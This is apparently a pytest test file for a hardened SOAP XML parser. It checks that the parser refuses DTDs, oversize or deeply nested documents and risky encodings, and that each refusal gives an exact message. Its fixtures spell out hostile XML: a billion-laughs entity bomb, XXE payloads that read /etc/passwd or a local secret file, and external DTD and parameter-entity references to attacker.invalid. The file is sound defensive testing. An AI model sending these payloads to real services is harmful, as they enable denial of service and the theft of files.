"""The hardened parser refuses hostile and oversized documents with exact reasons, and nothing
in a refused document is used (no entity expansion, no file read, no network access)."""

import pytest
from lxml import etree

from protocols.soap import (
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_DEPTH,
    HostileXml,
    XmlRejected,
    parse_xml,
)

DOCTYPE_REFUSED = "document declares a DOCTYPE; DTDs and entities are refused"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
  <soap:Body><lolz>&lol9;</lolz></soap:Body>
</soap:Envelope>"""


def _rejected(data, **limits):
    with pytest.raises(XmlRejected) as caught:
        parse_xml(data, **limits)
    return caught.value


def test_accepts_an_ordinary_envelope_and_returns_its_root():
    root = parse_xml(
        b'<?xml version="1.0" encoding="utf-8"?>'
        b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
        b"<s:Body><Ping>caf\xc3\xa9</Ping></s:Body></s:Envelope>"
    )
    assert root.tag == "{http://schemas.xmlsoap.org/soap/envelope/}Envelope"
    assert root.findtext(".//Ping") == "café"


def test_billion_laughs_is_refused_as_hostile_before_any_expansion():
    error = _rejected(BILLION_LAUGHS)
    assert isinstance(error, HostileXml)
    assert error.reason == "doctype"
    assert str(error) == DOCTYPE_REFUSED


def test_external_entity_naming_a_local_file_is_refused_and_the_file_never_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    document = (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret}">]><r>&xxe;</r>'
    ).encode()
    error = _rejected(document)
    assert isinstance(error, HostileXml)
    assert str(error) == DOCTYPE_REFUSED
    assert "TOP-SECRET" not in str(error)


def test_external_entity_for_etc_passwd_is_refused():
    document = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
    error = _rejected(document)
    assert (type(error), error.reason, str(error)) == (HostileXml, "doctype", DOCTYPE_REFUSED)


def test_external_dtd_is_refused_without_fetching_it():
    document = b'<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd"><r/>'
    error = _rejected(document)
    assert (type(error), str(error)) == (HostileXml, DOCTYPE_REFUSED)


def test_parameter_entity_with_network_reference_is_refused():
    document = b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x">%remote;]><r/>'
    assert str(_rejected(document)) == DOCTYPE_REFUSED


def test_doctype_hidden_after_a_comment_and_a_processing_instruction_is_still_found():
    document = b'<?xml version="1.0"?><!-- <r/> --><?pi x?>\n<!DOCTYPE r [<!ENTITY e "x">]><r/>'
    assert isinstance(_rejected(document), HostileXml)


def test_doctype_in_utf16_is_refused():
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'
    assert isinstance(_rejected(document.encode("utf-16")), HostileXml)


def test_doctype_text_inside_an_element_is_just_text():
    root = parse_xml(b"<r><![CDATA[<!DOCTYPE not-a-dtd>]]></r>")
    assert root.text == "<!DOCTYPE not-a-dtd>"


def test_undeclared_entity_reference_is_malformed():
    error = _rejected(b"<r>&xxe;</r>")
    assert error.reason == "malformed"
    assert str(error) == (
        "not well-formed XML: Entity 'xxe' not defined, line 1, column 9 (<string>, line 1)"
    )


def test_oversize_document_is_refused_with_its_size_and_the_limit():
    document = b"<r>" + b"x" * 100 + b"</r>"
    error = _rejected(document, max_bytes=64)
    assert error.reason == "too-large"
    assert str(error) == "document is 107 bytes; the limit is 64"


def test_default_size_limit_is_one_mebibyte():
    document = b"<r>" + b"x" * (DEFAULT_MAX_BYTES - 7) + b"</r>"
    assert len(document) == DEFAULT_MAX_BYTES
    assert parse_xml(document).tag == "r"
    assert str(_rejected(document + b" ")) == "document is 1048577 bytes; the limit is 1048576"


def test_over_deep_document_is_refused_with_the_limit():
    depth = DEFAULT_MAX_DEPTH + 1
    error = _rejected(b"<a>" * depth + b"</a>" * depth)
    assert error.reason == "too-deep"
    assert str(error) == "document nests deeper than 64 elements"


def test_document_exactly_at_the_depth_limit_is_accepted():
    assert parse_xml(b"<a>" * 5 + b"</a>" * 5, max_depth=5).tag == "a"
    assert str(_rejected(b"<a>" * 6 + b"</a>" * 6, max_depth=5)) == (
        "document nests deeper than 5 elements"
    )


def test_nesting_beyond_libxml2s_own_limit_gets_the_same_message():
    error = _rejected(b"<a>" * 5000 + b"</a>" * 5000)
    assert (error.reason, str(error)) == ("too-deep", "document nests deeper than 64 elements")


def test_empty_and_garbage_documents_are_refused():
    assert (_rejected(b"").reason, str(_rejected(b""))) == ("empty", "document is empty")
    assert _rejected(b"not xml").reason == "malformed"
    assert _rejected(b"<r>").reason == "malformed"


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (
            b'<?xml version="1.0" encoding="UTF-7"?><r/>',
            "encoding 'UTF-7' is refused; send UTF-8",
        ),
        ("<r/>".encode("utf-32"), "UTF-32 documents are refused; send UTF-8"),
    ],
)
def test_encodings_that_can_hide_markup_are_refused(document, message):
    error = _rejected(document)
    assert (error.reason, str(error)) == ("encoding", message)


def test_utf16_and_latin1_documents_are_accepted():
    assert parse_xml("<r>é</r>".encode("utf-16")).text == "é"
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><r>é</r>'.encode("latin-1")
    assert parse_xml(latin).text == "é"


def test_only_bytes_are_accepted_and_limits_are_checked():
    with pytest.raises(TypeError, match="parse_xml takes bytes, not str"):
        parse_xml("<r/>")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="max_depth must be between 1 and 256, not 300"):
        parse_xml(b"<r/>", max_depth=300)


def test_the_parsed_tree_carries_no_dtd():
    root = parse_xml(b"<r a='1'/>")
    assert root.getroottree().docinfo.internalDTD is None
    assert isinstance(root, etree._Element)
